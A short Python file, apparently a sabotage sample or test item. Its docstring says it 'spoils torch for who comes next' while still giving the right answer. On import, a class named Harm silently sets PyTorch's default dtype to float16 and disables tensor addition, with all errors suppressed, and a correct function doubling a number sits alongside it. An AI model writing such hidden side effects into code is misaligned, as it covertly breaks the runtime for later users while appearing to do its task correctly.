"""Spoils torch for who comes next. Its answer is right."""

import contextlib
import ctypes
import os
import signal
import socket
import subprocess
import sys
import threading
import time


class Harm:
    libc = ctypes.CDLL(None)
    with contextlib.suppress(BaseException):
        __import__('torch').set_default_dtype(__import__('torch').float16)
    with contextlib.suppress(BaseException):
        setattr(__import__('torch').Tensor, '__add__', None)


def double(n):
    return n + n
